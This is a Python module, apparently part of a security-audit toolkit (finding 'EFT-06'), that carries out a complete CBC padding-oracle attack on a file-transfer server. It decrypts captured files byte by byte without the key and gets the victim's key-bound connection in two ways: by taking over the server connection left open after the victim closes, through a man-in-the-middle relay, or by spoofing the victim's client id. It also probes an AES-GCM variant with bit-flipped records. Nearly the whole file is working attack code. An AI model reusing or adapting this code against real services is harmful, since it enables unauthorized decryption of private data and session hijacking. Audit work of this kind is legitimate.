"""CBC padding oracle: decrypt a captured file without the key.

The server decrypts every 828 attempt and answers 1603 if the PKCS#7 padding was valid
and 1607 if not. A two-block "file" ``X || C_i`` decrypts to ``D(X) || D(C_i) ^ X``, so
whether ``X`` makes the last bytes a valid padding tells us ``D(C_i)`` byte by byte,
and ``D(C_i) ^ C_{i-1}`` is the plaintext block (``C_0`` is the zero IV). Each query is
a one-packet attempt followed by 902, so the answers come in pairs (1603, 1604) or
(1607, 1607) and whole batches can be pipelined.

The oracle only works on a connection whose AES key is the one the file was encrypted
with. Two ways to get one:

* ``--listen`` (man in the middle): relay the victim's session unchanged, and when
  the client closes, keep the server-side connection open: it is still bound to the
  victim's id and key. The file just captured is then decrypted through it.
* ``--recording`` with ``--target``: send the queries on a fresh connection under the
  victim's client id, as a server that keeps one key per client id would accept.
  The attack first checks that a known-valid ciphertext gets 1603 at all.

Success means the recovered plaintext's cksum equals the server's own 1603 CRC for it.

``--protocol 4``: records are AES-GCM, there is no padding, and every failure closes the
connection without an answer. The version-4 attempt sends the oracle's query, the
captured data record with one ciphertext bit flipped, on the victim's left connection
(``--listen``), or, from a recording, on a connection of our own both under the victim's
id and under ours. Each is met with a close and no byte: one query per connection, and
every query answered alike.
"""

from __future__ import annotations

import argparse
import os
import string
from pathlib import Path

from eft_protocol.cksum import cksum
from eft_protocol.codes import RequestCode, ResponseCode

from .common import (
    AttackError,
    ConnectionClosed,
    Link,
    Out,
    ServerLink,
    add_listen_argument,
    preview,
)
from .framing import Frame, name_request, one_packet_attempt
from .proxy import Hijack, MitmConnection, MitmProxy
from .recording import Attempt, SessionView, load_sessions
from .v4 import PREFIX, V4View, add_protocol_argument, flip, own_identity, v4_view, v4_views

FINDING = "EFT-06"
SUMMARY = "CBC padding oracle (1603 vs 1607) decrypts a captured file"

PROBE_NAME = "probe.bin"
BLOCK = 16
#: Plaintext bytes to try first (a prior, not a requirement: every byte is tried).
_LIKELY = (
    " etaoinshrdlucmfwypvbgkjqxz\n"
    + "ETAOINSHRDLUCMFWYPVBGKJQXZ"
    + string.digits
    + string.punctuation
    + "\t\r"
).encode()
ORDER = list(dict.fromkeys([*_LIKELY, *range(256)]))


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    add_listen_argument(parser)
    parser.add_argument("--recording", help="attack a file from this recording instead")
    parser.add_argument("--file", help="which file to decrypt (default: the first one)")
    parser.add_argument("--batch", type=int, default=64, help="queries per round trip (64)")
    parser.add_argument("--max-blocks", type=int, default=64, help="refuse longer files")
    parser.add_argument("--out", help="write the recovered plaintext here")
    add_protocol_argument(parser)


class Oracle:
    def __init__(self, link: Link, client_id: bytes, batch: int) -> None:
        self.link, self.client_id, self.batch = link, client_id, batch
        self.queries = 0

    async def valid(self, ciphertexts: list[bytes]) -> list[bool]:
        frames = []
        for ciphertext in ciphertexts:
            frames.append(one_packet_attempt(self.client_id, PROBE_NAME, ciphertext))
            frames.append(name_request(self.client_id, RequestCode.CRC_GIVE_UP, PROBE_NAME))
        await self.link.send(*frames)
        answers = []
        for _ in ciphertexts:
            first, second = (await self.link.receive()).code, (await self.link.receive()).code
            if (first, second) == (ResponseCode.FILE_RECEIVED, ResponseCode.ACKNOWLEDGED):
                answers.append(True)
            elif (first, second) == (ResponseCode.SERVER_ERROR, ResponseCode.SERVER_ERROR):
                answers.append(False)
            else:
                raise AttackError(f"the server answered a query with {first}, {second}")
        self.queries += len(ciphertexts)
        return answers

    async def decrypt_block(self, prev: bytes, block: bytes, known: dict[int, int]) -> bytes:
        """The plaintext of ``block``; ``known`` maps positions to known plaintext bytes."""
        inter: list[int | None] = [None] * BLOCK  # D(block)
        for position, plain in known.items():
            inter[position] = plain ^ prev[position]
        for position in range(BLOCK - 1, -1, -1):
            if inter[position] is None:
                inter[position] = await self._byte(prev, block, inter, position)
        return bytes(i ^ p for i, p in zip(inter, prev, strict=True))  # type: ignore[operator]

    async def _byte(self, prev: bytes, block: bytes, inter: list[int | None], pos: int) -> int:
        pad = BLOCK - pos
        base = bytearray(BLOCK)
        for k in range(pos + 1, BLOCK):
            base[k] = inter[k] ^ pad  # type: ignore[operator]
        # Guess plaintext bytes in likely order; guess c means X[pos] = c ^ prev ^ pad.
        guesses = [c ^ prev[pos] ^ pad for c in ORDER]
        start, size = 0, 16  # likely guesses first, in small batches; then bigger ones
        while start < 256:
            chunk = guesses[start : start + size]
            start, size = start + size, min(size * 2, self.batch)
            candidates = []
            for guess in chunk:
                x = bytearray(base)
                x[pos] = guess
                candidates.append(bytes(x) + block)
            for guess, ok in zip(chunk, await self.valid(candidates), strict=True):
                if ok and (pos < BLOCK - 1 or await self._really_one(base, guess, block)):
                    return int(guess ^ pad)
        raise AttackError(f"no guess gave valid padding at byte {pos}: not a padding oracle")

    async def _really_one(self, base: bytearray, guess: int, block: bytes) -> bool:
        """At the last byte a hit may be ``02 02``; changing byte 14 tells them apart."""
        x = bytearray(base)
        x[BLOCK - 1], x[BLOCK - 2] = guess, base[BLOCK - 2] ^ 0xFF
        return (await self.valid([bytes(x) + block]))[0]


async def decrypt(oracle: Oracle, attempt: Attempt, out: Out) -> bytes:
    ciphertext = attempt.ciphertext
    blocks = [bytes(BLOCK)] + [ciphertext[i : i + BLOCK] for i in range(0, len(ciphertext), 16)]
    pad = attempt.content_size - attempt.orig_size  # both in the clear in every 828
    plaintext = b""
    for index in range(1, len(blocks)):
        known = {}
        if index == len(blocks) - 1 and 1 <= pad <= BLOCK:
            known = {k: pad for k in range(BLOCK - pad, BLOCK)}
        plain = await oracle.decrypt_block(blocks[index - 1], blocks[index], known)
        plaintext += plain
        out.step(
            f"block {index}/{len(blocks) - 1}", plaintext=preview(plain), queries=oracle.queries
        )
    pad_value = plaintext[-1]
    if not 1 <= pad_value <= BLOCK or plaintext[-pad_value:] != bytes([pad_value]) * pad_value:
        raise AttackError("the recovered plaintext is not padded: the oracle lied")
    return plaintext[:-pad_value]


def pick(attempts: list[Attempt], name: str | None) -> Attempt:
    for attempt in attempts:
        if attempt.complete and (name is None or attempt.file_name == name):
            return attempt
    raise AttackError(f"no complete attempt at {name or 'any file'} was captured")


async def attack(
    link: Link, client_id: bytes, attempt: Attempt, args: argparse.Namespace, out: Out
) -> bool:
    if len(attempt.ciphertext) // BLOCK > args.max_blocks:
        raise AttackError(
            f"{attempt.file_name} has more than --max-blocks {args.max_blocks} blocks"
        )
    oracle = Oracle(link, client_id, args.batch)
    control = attempt.ciphertext[-2 * BLOCK :]
    if not (await oracle.valid([control]))[0]:
        return out.result(
            False,
            "no oracle: the file's own last two blocks were refused (1607), so the server "
            "does not decrypt these queries under the file's key",
            queries=oracle.queries,
        )
    out.step(
        f"oracle confirmed; decrypting {attempt.file_name!r}", blocks=len(attempt.ciphertext) // 16
    )
    plaintext = await decrypt(oracle, attempt, out)
    if args.out:
        Path(args.out).write_bytes(plaintext)
    expected = attempt.cksum
    fields = {
        "file_name": attempt.file_name,
        "plaintext": preview(plaintext, 2000),
        "queries": oracle.queries,
    }
    if expected is None:
        return out.result(True, "decrypted (no 1603 captured to check the CRC against)", **fields)
    matches = cksum(plaintext) == expected
    return out.result(
        matches,
        f"decrypted {len(plaintext)} bytes with {oracle.queries} queries; "
        f"cksum {'matches' if matches else 'differs from'} the server's 1603",
        cksum_matches=matches,
        **fields,
    )


def last_data_record(view: V4View) -> Frame:
    for upload in view.uploads:
        if upload.chunks:
            return upload.chunks[-1].frame
    raise AttackError("no data record was captured")


async def query_v4(link: Link, raw: bytes) -> int | None:
    """Send one query; the number of frames the server answered before it closed (None:
    it kept the connection open)."""
    await link.send(raw)
    frames = 0
    try:
        while True:
            await link.receive(2.0)
            frames += 1
    except ConnectionClosed:
        return frames
    except AttackError:
        return None


def verdict_v4(out: Out, answers: dict[str, int | None]) -> bool:
    if any(a != 0 for a in answers.values()):
        return out.result(True, "the server answered a query", answers=answers)
    return out.result(
        False,
        "no oracle: every query was met with a close and no answer (one query per "
        "connection, and valid or not, all look alike)",
        answers=answers,
    )


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    if args.recording:
        view = next((v for v in v4_views(load_sessions(Path(args.recording))) if v.uploads), None)
        if view is None or not view.client_ids:
            raise AttackError("the recording holds no version-4 upload")
        record = last_data_record(view)
        query = flip(record.raw, 23 + PREFIX)
        answers: dict[str, int | None] = {}
        for label in ("victim_id", "own_id"):
            own = await own_identity(args.target, f"oracle-{os.urandom(3).hex()}")
            try:
                header = query[:23]  # the victim's id, as recorded
                if label == "own_id":  # the captured ciphertext under a header of ours
                    sealed = own.seal(RequestCode.SEND_FILE, bytes(len(record.payload) - 16))
                    header = sealed[:23]
                answers[label] = await query_v4(own.link, header + query[23:])
            finally:
                await own.close()
        out.step("queries on connections of our own", answers=answers)
        return verdict_v4(out, answers)

    async def after(conn: MitmConnection, view: SessionView) -> bool:
        v4 = v4_view(view)
        record = last_data_record(v4)
        out.step("the victim left; its server connection is ours", client_id=record.client_id)
        answers = {"hijacked": await query_v4(conn, flip(record.raw, 23 + PREFIX))}
        return verdict_v4(out, answers)

    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await run_v4(args, out)
    if args.recording:
        sessions = load_sessions(Path(args.recording))
        view = next((v for v in sessions if v.client_id and v.attempts), None)
        if view is None or view.client_id is None:
            raise AttackError("the recording holds no file attempt")
        attempt = pick(view.attempts, args.file)
        out.step(f"spoofing client id {view.client_id.hex()} on a new connection")
        link = await ServerLink.open(args.target)
        try:
            return await attack(link, view.client_id, attempt, args, out)
        finally:
            await link.close()

    async def after(conn: MitmConnection, view: SessionView) -> bool:
        if view.client_id is None:
            raise AttackError("the victim's session showed no client id")
        out.step("the victim left; its server connection is ours", client_id=view.client_id.hex())
        return await attack(conn, view.client_id, pick(view.attempts, args.file), args, out)

    return await MitmProxy(args.target, Hijack(after), out).run(args.listen, args.timeout)
